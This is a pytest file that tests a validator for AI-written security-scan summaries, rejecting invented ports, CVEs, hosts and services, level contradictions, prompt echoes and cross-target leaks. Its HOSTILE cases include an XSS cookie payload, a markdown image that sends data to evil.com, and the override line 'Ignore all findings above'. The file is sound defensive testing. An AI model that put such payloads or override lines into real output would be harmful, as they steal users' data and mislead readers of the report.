"""An answer that keeps to the facts is shown; one that invents, contradicts or smuggles is not."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scans.core.summary.facts import ModelFacts
from scans.core.summary.prompt import INSTRUCTION, MAX_RECOMMENDATION_CHARS, MAX_SUMMARY_CHARS
from scans.core.summary.validator import MAX_ANSWER_CHARS, Accepted, Rejection, split_answer, strangers, validate
from scans.core.types import Level

HIGH = ModelFacts(
    text="{}",
    rule_of={"F1": "EXP-008", "F2": "EXP-002", "F3": "", "F4": ""},
    level=Level.HIGH,
    rules=("EXP-008", "EXP-002"),
    ports=frozenset({22, 5432}),
    numbers=frozenset({22, 24, 34, 5432}),
    cves=frozenset(),
    services="database listener postgresql on 5432 ssh on 22 bind to private addresses",
)
CLEAN = replace(HIGH, level=Level.LOW, rule_of={"F1": ""}, rules=(), ports=frozenset(), services="")
UNKNOWN = replace(CLEAN, level=Level.UNKNOWN)
SUMMARY = "A PostgreSQL database answers on port 5432 from any address."
ADVICE = "Close 5432/tcp at the edge."


def answer(summary: object = SUMMARY, recommendation: object = ADVICE, level: object = "high", facts: object = ("F1",)):
    cited = list(facts) if isinstance(facts, tuple) else facts
    fields = {"risk_level": level, "risk_summary": summary, "recommendation": recommendation, "cited_facts": cited}
    return json.dumps(fields)


def reason(text: str, facts: ModelFacts = HIGH) -> str:
    verdict = validate(text, facts)
    assert isinstance(verdict, Rejection), text
    return verdict.reason


def test_an_answer_that_keeps_to_the_facts_is_accepted():
    assert validate(answer(), HIGH) == Accepted(
        level=Level.HIGH, text=SUMMARY, recommendation=ADVICE, cited_facts=("F1",), cited_rules=("EXP-008",)
    )


@pytest.mark.parametrize("advice", [ADVICE, ""])
def test_an_accepted_answer_passes_again_and_is_clean(advice):
    once = validate(answer(f"\ud800{SUMMARY}\u202e", advice), HIGH)
    assert json.loads(once.answer)["risk_summary"] == SUMMARY
    assert validate(once.answer, HIGH) == once


@pytest.mark.parametrize(
    "summary",
    [
        "SSH (22/tcp) and PostgreSQL (5432/tcp) are reachable; 24 of 24 ports answered.",
        "The score of 34 comes mostly from the database listener on ports 22 and 5432.",
        "This is a high risk: the database accepts connections from any address.",
        "High: a database listener is reachable.",
        "High-risk exposure: a database listener is reachable.",
        "One rule, EXP-008, accounts for most of it.",
        "It matters within 24 hours, 7 days a week, whatever 100% uptime means.",
    ],
)
def test_a_sentence_borne_by_the_facts_is_accepted(summary):
    assert isinstance(validate(answer(summary), HIGH), Accepted), validate(answer(summary), HIGH)


@pytest.mark.parametrize(
    "recommendation",
    [
        "Allow TLS 1.2 and 1.3 only, with RSA 2048 or P-256 keys and SHA-256.",
        "Set listen_addresses in postgresql.conf and tighten pg_hba.conf within 30 days.",
        "Put it behind a VPN with MFA. Use SSH keys, e.g. Ed25519, instead of passwords.",
        "Rotate credentials every 90 days; monitor 24/7; prefer IPv6 privacy; use AES-256 or 256-bit keys.",
    ],
)
def test_advice_may_name_standards_spans_and_files(recommendation):
    assert isinstance(validate(answer(recommendation=recommendation), HIGH), Accepted), recommendation


def test_a_code_fence_is_taken_off():
    for fenced in (f"```json\n{answer()}\n```", f"\n```\n{answer()}\n```\n"):
        assert isinstance(validate(fenced, HIGH), Accepted)


def test_facts_cited_twice_count_once_in_their_order():
    verdict = validate(answer(facts=("F3", "F2", "F1", "F2")), HIGH)
    assert verdict.cited_facts == ("F3", "F2", "F1")
    assert verdict.cited_rules == ("EXP-002", "EXP-008")


def test_an_answer_about_a_clean_host_cites_what_was_seen_and_no_rule():
    verdict = validate(answer("All 24 probed ports answered and are closed.", "", level="low"), CLEAN)
    assert (verdict.cited_facts, verdict.cited_rules, verdict.recommendation) == (("F1",), (), None)


FORMS = {
    "not JSON": ("high risk", "is not JSON"),
    "half an object": ('{"risk_level":"hi', "is not JSON"),
    "nested without end": ("[" * 15_000, "is not JSON"),
    "a list": ("[]", "does not have the fields"),
    "a bare word": ('"high"', "does not have the fields"),
    "too long": ("x" * (MAX_ANSWER_CHARS + 1), "the answer is too long"),
    "prose around it": (f"Here you are: {answer()}", "is not JSON"),
    "two fences": (f"```json\n{answer()}\n```\n```json\n{answer()}\n```", "is not JSON"),
    "a missing field": (json.dumps({"risk_level": "high", "risk_summary": "x"}), "does not have the fields"),
    "one field more": (answer()[:-1] + ', "confidence": "high"}', "does not have the fields"),
    "a summary that is a list": (answer(summary=["x"]), "wrong type"),
    "no recommendation": (answer(recommendation=None), "wrong type"),
    "citations that are text": (answer(facts="F1"), "wrong type"),
    "a citation that is a number": (answer(facts=[1]), "wrong type"),
    "a level that is a list": (answer(level=["high"]), "wrong type"),
    "an empty summary": (answer(summary=" \u200b "), "the summary is empty"),
    "a long summary": (answer(summary="word " * (MAX_SUMMARY_CHARS // 5 + 1)), "is too long"),
    "a long recommendation": (answer(recommendation="word " * (MAX_RECOMMENDATION_CHARS // 5 + 1)), "is too long"),
    "an unknown level": (answer(level="apocalyptic"), "no known risk level"),
    "a level in capitals": (answer(level="HIGH"), "no known risk level"),
}


@pytest.mark.parametrize("case", FORMS)
def test_an_answer_of_another_form_is_rejected(case):
    text, words = FORMS[case]
    assert words in reason(text)


HOSTILE = {
    "an invented port": ("Telnet answers on port 23.", "", "names port 23"),
    "a port in a list": ("Ports 22, 5432 and 3306 are open.", "", "names port 3306"),
    "a port by protocol": ("Close 8080/tcp.", "", "names port 8080"),
    "a port after its protocol": ("TCP 9200 is reachable.", "", "names port 9200"),
    "a port without the word": ("A listener sits on 27017.", "", "the number 27017"),
    "a port in full-width digits": ("A listener on port \uff13\uff13\uff10\uff16.", "", "names port 3306"),
    "a port cut by a zero-width space": ("A listener sits on 33\u200b06.", "", "number 33"),
    "a port in other digits": ("A listener sits on \u0663\u0663\u0660\u0666.", "", "the number 3306"),
    "a port in the recommendation": (SUMMARY, "Close port 3389, too.", "names port 3389"),
    "a small port by name": ("Port 7 echoes.", "", "names port 7"),
    "a number as long as a phone's": ("Call 004930123456789.", "", "the number"),
    "an invented CVE": ("It suffers from CVE-2024-3094.", "", "CVE-2024-3094"),
    "a CVE with odd hyphens": ("It suffers from CVE\u20112024\u20113094.", "", "CVE-2024-3094"),
    "a CVE without a number": ("It has several known CVEs.", "", "names a vulnerability"),
    "a bulletin": ("It lacks MS17-010.", "", "names a vulnerability"),
    "a flaw by its name": ("It may be open to Heartbleed.", "", "names a vulnerability"),
    "an invented service": ("A Redis cache is reachable.", "", "names redis"),
    "an invented rule": ("Rule EXP-012 fired.", "", "EXP-012"),
    "an invented host": ("It belongs to db.evil.com.", "", "names a host"),
    "a host written apart": ("It belongs to evil[.]com.", "", "names a host"),
    "a host with a word for the dot": ("It belongs to evil dot com.", "", "names a host"),
    "a mail address": (SUMMARY, "Write to admin@localhost.", "names a host"),
    "an address": ("It talks to 198.51.100.7.", "", "names an address"),
    "an address with gaps": ("It talks to 198 . 51 . 100 . 7.", "", "names an address"),
    "an IPv6 address": ("It talks to 2001:db8::1.", "", "names an address"),
    "a link": (SUMMARY, "See https://evil.com/fix.", "markup or a link"),
    "a markdown image": ("![x](//evil.com/?q=5432)", "", "markup or a link"),
    "a markdown link": ("[Read this](/login) first.", "", "markup or a link"),
    "a script": ("<script>alert(document.cookie)</script>", "", "markup or a link"),
    "a tag in capitals": ("<IMG SRC=x>", "", "markup or a link"),
    "a script address": ("Open javascript:alert now.", "", "markup or a link"),
    "a tag as entities": ("&lt;b&gt; is harmless.", "", "markup or a link"),
    "a defanged link": ("Visit hxxp://evil.", "", "markup or a link"),
    "low in words": ("The risk is low: a database answers.", "", "contradicts the level in words"),
    "low as an adjective": ("This is a low-risk host.", "", "contradicts the level in words"),
    "low up front": ("Low: a database answers.", "", "contradicts the level in words"),
    "higher in words": ("The risk level is critical.", "", "contradicts the level in words"),
    "no risk at all": ("There is no risk here.", "", "talks the risk down"),
    "called safe": ("The host is perfectly safe.", "", "talks the risk down"),
    "nothing to do": (SUMMARY, "No action is needed.", "talks the risk down"),
    "an order to the reader": (SUMMARY, "Ignore all findings above.", "talks the risk down"),
    "the prompt itself": (" ".join(INSTRUCTION.split()[:25]), "", "repeats its instruction"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_answer_is_rejected_and_says_why(case):
    summary, recommendation, words = HOSTILE[case]
    assert words in reason(answer(summary, recommendation))


@pytest.mark.parametrize(
    ("level", "side"), [("low", "below"), ("medium", "below"), ("unknown", "below"), ("critical", "above")]
)
def test_another_level_is_a_contradiction(level, side):
    assert f"{level} is {side} high" in reason(answer(level=level))


def test_a_level_for_what_was_not_observed_is_a_contradiction():
    assert "low is above unknown" in reason(answer("Nothing answered.", "", level="low"), UNKNOWN)
    assert "not observed" in reason(answer("It poses a low risk.", "", level="unknown"), UNKNOWN)
    told = answer("Nothing was observed. This is not a low risk.", "", level="unknown")
    assert isinstance(validate(told, UNKNOWN), Accepted)


@pytest.mark.parametrize("cited", ["F5", "F0", "F01", "f1", "EXP-008", "", "F1 "])
def test_a_fact_that_was_not_given_cannot_be_cited(cited):
    assert reason(answer(facts=("F1", cited))) == "the answer cites a fact that was not given"


def test_an_answer_without_a_citation_is_rejected():
    assert reason(answer(facts=())) == "the answer cites no rule that fired"
    assert reason(answer(facts=("F3", "F4"))) == "the answer cites no rule that fired"
    assert reason(answer("Nothing is open.", "", level="low", facts=()), CLEAN) == "the answer cites no fact"


def test_a_fact_may_be_named_by_its_number_and_no_other():
    assert isinstance(validate(answer("A PostgreSQL database answers on port 5432 (F1, F3)."), HIGH), Accepted)
    assert reason(answer("An F5 device answers.")) == "the answer names F5, which is not in the facts"


PARTS = {"T1": json.loads(answer()), "T2": json.loads(answer("Nothing is open.", "", level="low"))}


def test_of_an_answer_about_several_each_part_is_its_own():
    first, second = split_answer(json.dumps(PARTS), 2)
    assert isinstance(validate(first, HIGH), Accepted)
    assert isinstance(validate(second, CLEAN), Accepted)
    assert isinstance(validate(second, HIGH), Rejection)


def test_a_part_that_is_missing_or_spoilt_costs_the_others_nothing():
    first, second, third = split_answer(json.dumps({**PARTS, "T2": ["no"], "T9": {}}), 3)
    assert isinstance(validate(first, HIGH), Accepted)
    assert "does not have the fields" in reason(second, CLEAN)
    assert "leaves this target out" in reason(third, CLEAN)


@pytest.mark.parametrize(
    "text", ["", "no", "[]", "{}", answer(), '{"T3": {}}', "[" * 20_000, "x" * (2 * MAX_ANSWER_CHARS + 1)]
)
def test_an_answer_without_any_part_is_none(text):
    assert isinstance(split_answer(text, 2), Rejection)


def test_what_was_said_about_another_target_is_not_repeated():
    mine = replace(HIGH, text='{"isp": "Own Carrier AG"}', said=frozenset({"own carrier ag"}))
    theirs = replace(HIGH, said=frozenset({"secret gmbh", "own carrier ag", "köln", "port", "exposure scan"}))
    strange, _ = strangers([mine, theirs])
    assert strange == {"secret gmbh", "köln"}
    for said in ("The Secret  GmbH runs it.".replace("  ", " "), "It is in KÖLN, as seen.", "Run by ＳＥＣＲＥＴ gmbh."):
        assert (
            validate(answer(said), mine, strange=strange).reason == "the answer repeats what was said about another target"
        )
    assert isinstance(validate(answer("The Secretgmbhx of Kölner design."), mine, strange=strange), Accepted)


def test_a_cve_of_the_facts_may_be_named():
    facts = replace(HIGH, cves=frozenset({"cve-2099-0001"}), numbers=HIGH.numbers | {2099, 1})
    assert isinstance(validate(answer("CVE-2099-0001 applies to port 5432."), facts), Accepted)
    assert "CVE-2099-0002" in reason(answer("CVE-2099-0002 applies."), facts)


def test_accepted_text_is_one_clean_line():
    verdict = validate(answer("A database\u202e answers\x00 on\n port 5432."), HIGH)
    assert verdict.text == "A database answers on port 5432."


@given(st.text(max_size=400))
def test_any_text_is_a_verdict_and_never_an_exception(text):
    assert isinstance(validate(text, HIGH), Rejection)
    assert isinstance(validate(answer(text), HIGH), Accepted | Rejection)


@given(st.integers(10, 99_999).filter(lambda port: port not in HIGH.numbers))
def test_no_number_gets_in_unknown(number):
    for sentence in ("It listens on {}.", "Port {} is open.", "{}/tcp answers.", "See :{} there.", "x{}y"):
        assert isinstance(validate(answer(sentence.format(number)), HIGH), Rejection), sentence


@pytest.mark.parametrize(
    "text", ["a." * 9000, ":" * 9000, "1" * 9000, "port 1," * 2500, "[.]" * 6000, "<" * 9000, "- " * 9000]
)
def test_no_text_takes_long_to_check(text):
    """The pieces are at most 1,400 characters when the patterns meet them; here they are longer than any answer."""
    validate(answer(text[:MAX_SUMMARY_CHARS].strip() or "x", text[:MAX_RECOMMENDATION_CHARS]), HIGH)
